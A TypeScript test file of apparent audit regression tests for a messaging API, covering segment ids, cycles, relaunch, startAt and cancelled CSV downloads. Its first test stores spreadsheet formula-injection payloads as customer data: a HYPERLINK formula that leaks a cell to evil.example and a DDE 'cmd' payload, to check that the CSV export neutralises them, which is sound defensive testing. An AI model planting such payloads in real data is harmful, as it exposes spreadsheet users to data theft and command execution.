// Segments and actions at their edges, from an audit (each test failed before its fix):
// spreadsheet formulas in the tracking CSV, cancelled downloads holding connections, ids in upper
// case slipping past checks, concurrent edits saving a segment cycle, a failed single send that
// could not be launched again, a triggered action running before its start.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { actionTriggerJob, executePendingRuns } from '../src/modules/actions/actions.runs.ts';
import { startHerald, workspaceWithKey, type Call } from './helpers/app.ts';

const herald = await startHerald(t, { HERALD_ROLE: 'api' });
const { app, clock } = herald;
const { deps } = herald.runtime;
const { sql } = deps.database;

async function setup(call: Call) {
  const config = (await call('POST', '/v1/channel-configs', { name: 'sandbox', provider: 'sandbox', channel: 'email', settings: { fromEmail: 'news@acme.example' } })).json();
  const template = (await call('POST', '/v1/templates', { name: 'Hello', channel: 'email', content: { subject: 'Hi', html: '<p>Hi</p>' } })).json();
  return { channelConfigId: config.id as string, templateId: template.id as string };
}
const gold = { type: 'field', field: 'custom.plan', op: 'eq', value: 'gold' };

t.test('the tracking CSV neutralises spreadsheet formulas', async (t) => {
  clock.set('2026-06-01T10:00:00Z');
  const { call } = await workspaceWithKey(app);
  const refs = await setup(call);
  const c = await call('POST', '/v1/customers', { externalId: '=HYPERLINK("https://evil.example/?"&A1,"click")', email: 'a@x.example', custom: { plan: 'gold', note: '+cmd|\' /C calc\'!A0' } });
  t.equal(c.statusCode, 201, c.body);
  const id = (await call('POST', '/v1/actions', { name: 'S', kind: 'single_send', channel: 'email', ...refs, audience: gold, launch: true })).json().id;
  await executePendingRuns(deps);
  const csv = await call('GET', `/v1/actions/${id}/tracking?columns=externalId,custom.note`, undefined, { accept: 'text/csv' });
  const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
  t.notMatch(rows[0]!.externalId, /^[=+\-@\t\r]/, 'externalId cell must not start a formula');
  t.notMatch(rows[0]!['custom.note'], /^[=+\-@\t\r]/, 'custom cell must not start a formula');
});

t.test('a segment id in upper case is the same segment: DELETE is refused while an action uses it', async (t) => {
  clock.set('2026-06-01T10:00:00Z');
  const { call } = await workspaceWithKey(app);
  const refs = await setup(call);
  const seg = (await call('POST', '/v1/segments', { name: 'gold', filter: gold })).json();
  const act = await call('POST', '/v1/actions', { name: 'T', kind: 'triggered', channel: 'email', ...refs, audience: { type: 'segment', segmentId: seg.id }, launch: true });
  t.equal(act.json().status, 'active');
  t.equal((await call('DELETE', `/v1/segments/${seg.id}`)).statusCode, 409, 'lower case: refused');
  t.equal((await call('DELETE', `/v1/segments/${seg.id.toUpperCase()}`)).statusCode, 409, 'upper case: must be refused too');
});

t.test('a single send whose run failed can be launched again (it was left active with nothing ahead)', async (t) => {
  clock.set('2026-06-01T10:00:00Z');
  const { call, workspaceId } = await workspaceWithKey(app);
  const refs = await setup(call);
  await call('POST', '/v1/customers', { externalId: 'c1', email: 'c1@x.example', custom: { plan: 'gold' } });
  const seg = (await call('POST', '/v1/segments', { name: 'gold', filter: gold })).json();
  const id = (await call('POST', '/v1/actions', { name: 'S', kind: 'single_send', channel: 'email', ...refs, audience: { type: 'segment', segmentId: seg.id }, launch: true })).json().id;
  // The run fails for good (its segment, broken by hand, refers to one that does not exist), then the segment is mended.
  await sql`update segments set filter = ${JSON.stringify({ type: 'segment', segmentId: '00000000-0000-4000-8000-000000000000' })}::jsonb where workspace_id = ${workspaceId} and id = ${seg.id}`;
  await executePendingRuns(deps);
  const [run] = await sql`select status from action_runs where workspace_id = ${workspaceId} and action_id = ${id}`;
  t.equal(run!.status, 'failed');
  await sql`update segments set filter = ${JSON.stringify(gold)}::jsonb where workspace_id = ${workspaceId} and id = ${seg.id}`;
  t.match((await call('GET', `/v1/actions/${id}`)).json(), { status: 'active', nextRunAt: null }, 'nothing ahead of it');
  const relaunch = await call('POST', `/v1/actions/${id}/launch`);
  t.equal(relaunch.statusCode, 200, relaunch.body);
  t.equal(await executePendingRuns(deps), 1, 'the launch queued a new run');
  t.equal((await sql`select 1 from messages where source_id = ${id}`).length, 1, 'which sent the message');
  t.equal((await call('GET', `/v1/actions/${id}`)).json().status, 'completed');
});
t.test('a triggered action runs nothing on an event before its startAt', async (t) => {
  clock.set('2026-06-01T10:00:00Z');
  const { call, workspaceId } = await workspaceWithKey(app);
  const refs = await setup(call);
  const audience = { type: 'event', name: 'cart.abandoned', within: { amount: 1, unit: 'days' } };
  const created = await call('POST', '/v1/actions', { name: 'Later', kind: 'triggered', channel: 'email', ...refs, audience, startAt: '2026-06-10T00:00:00Z', launch: true });
  t.match(created.json(), { status: 'active', nextRunAt: '2026-06-10T00:00:00.000Z' });
  const id = created.json().id;
  await new Promise((r) => setTimeout(r, 50));
  await call('POST', '/v1/events', { externalId: 'shopper', type: 'cart.abandoned', occurredAt: clock.now().toISOString() });
  const [job] = await sql`select id, data from pgboss.job where name = 'action-triggers' and data->>'actionId' = ${id}`;
  t.ok(job, 'the ingest hook queued a trigger job');
  // what the action-triggers worker does with that job
  await actionTriggerJob.handler!(deps as never, [{ id: job!.id, data: { workspaceId, actionId: id } }] as never);
  const [{ n }] = await sql`select count(*)::int as n from messages where source_id = ${id}` as never as [{ n: number }];
  t.equal(n, 0, 'nothing may be sent before startAt');
});

t.test('concurrent segment edits cannot save a cycle', async (t) => {
  const { call } = await workspaceWithKey(app);
  let cycles = 0;
  for (let i = 0; i < 10; i++) {
    const a = (await call('POST', '/v1/segments', { name: 'A', filter: gold })).json();
    const b = (await call('POST', '/v1/segments', { name: 'B', filter: gold })).json();
    const [ra, rb] = await Promise.all([
      call('PUT', `/v1/segments/${a.id}`, { name: 'A', filter: { type: 'segment', segmentId: b.id } }),
      call('PUT', `/v1/segments/${b.id}`, { name: 'B', filter: { type: 'segment', segmentId: a.id } }),
    ]);
    if (ra.statusCode === 200 && rb.statusCode === 200) cycles++;
  }
  const p = await call('POST', '/v1/segments/preview', { filter: gold });
  t.equal(p.statusCode, 200);
  t.equal(cycles, 0, `both edits accepted (a cycle A -> B -> A saved) in ${cycles} of 10 tries`);
});

t.test('cancelled CSV downloads free their database connections', async (t) => {
  clock.set('2026-06-01T10:00:00Z');
  const { call, workspaceId, token } = await workspaceWithKey(app);
  const refs = await setup(call);
  await sql`insert into customers (workspace_id, id, external_id, email, custom)
    select ${workspaceId}, gen_random_uuid(), 'c' || g, 'c' || g || '@x.example', jsonb_build_object('plan', 'gold', 'pad', repeat('x', 2000)) from generate_series(1, 3000) g`;
  const id = (await call('POST', '/v1/actions', { name: 'Big', kind: 'single_send', channel: 'email', ...refs, audience: gold, launch: true })).json().id;
  await executePendingRuns(deps);
  await app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = app.server.address() as AddressInfo;
  const abortOne = () => new Promise<void>((resolve) => {
    const req = http.get({ port, host: '127.0.0.1', path: `/v1/actions/${id}/tracking?columns=externalId,custom.pad`, headers: { authorization: `Bearer ${token}`, accept: 'text/csv' } }, (res) => {
      res.once('data', () => { req.destroy(); resolve(); });
    });
    req.on('error', () => resolve());
  });
  for (let i = 0; i < 5; i++) await abortOne();
  await new Promise((r) => setTimeout(r, 2000));
  const postgres = (await import('postgres')).default;
  const side = postgres(herald.databaseUrl, { max: 1 });
  t.teardown(() => side.end());
  const stuck = await side`select count(*)::int as n from pg_stat_activity where datname = current_database() and query like '%jsonb_object_agg(at.kind%' and pid <> pg_backend_pid()`;
  t.equal(stuck[0]!.n, 0, 'no backend still holds an aborted tracking query');
  t.comment(await side`select state, wait_event, left(query, 40) as q from pg_stat_activity where datname = current_database() and pid <> pg_backend_pid()`);
  const answer = await Promise.race([call('GET', `/v1/actions/${id}`).then((r) => r.statusCode), new Promise((r) => setTimeout(() => r('timed out'), 5000))]);
  t.equal(answer, 200, 'the API still answers');
});

t.test('a segment id in upper case cannot make a segment refer to itself', async (t) => {
  const { call } = await workspaceWithKey(app);
  const a = (await call('POST', '/v1/segments', { name: 'A', filter: gold })).json();
  const put = await call('PUT', `/v1/segments/${a.id.toUpperCase()}`, { name: 'A', filter: { any: [gold, { type: 'segment', segmentId: a.id }] } });
  t.equal(put.statusCode, 400, 'a self reference must be refused');
  const p = await call('POST', `/v1/segments/${a.id}/preview`, {});
  t.equal(p.statusCode, 200, `preview answers ${p.statusCode}`);
});

t.test('a segment a flow uses (its running version or its draft) cannot be deleted', async (t) => {
  const { call } = await workspaceWithKey(app);
  const seg = (await call('POST', '/v1/segments', { name: 'gold', filter: gold })).json();
  const graph = {
    nodes: [
      { id: 'start', type: 'event_trigger', eventType: 'visit' },
      { id: 'vip', type: 'condition', filter: { type: 'segment', segmentId: seg.id } },
      { id: 'end', type: 'exit' },
    ],
    edges: [{ from: 'start', to: 'vip' }, { from: 'vip', to: 'end', branch: 'yes' }, { from: 'vip', to: 'end', branch: 'no' }],
  };
  const flow = (await call('POST', '/v1/flows', { name: 'VIP check', graph })).json();
  const asDraft = await call('DELETE', `/v1/segments/${seg.id}`);
  t.equal(asDraft.statusCode, 409, 'used by a draft');
  t.match(asDraft.json().detail, /flow "VIP check"/);
  t.equal((await call('POST', `/v1/flows/${flow.id}/launch`)).statusCode, 200);
  t.equal((await call('DELETE', `/v1/segments/${seg.id}`)).statusCode, 409, 'used by the running version');
  t.equal((await call('DELETE', `/v1/flows/${flow.id}`)).statusCode, 204);
  t.equal((await call('DELETE', `/v1/segments/${seg.id}`)).statusCode, 204, 'free once the flow is gone');
});
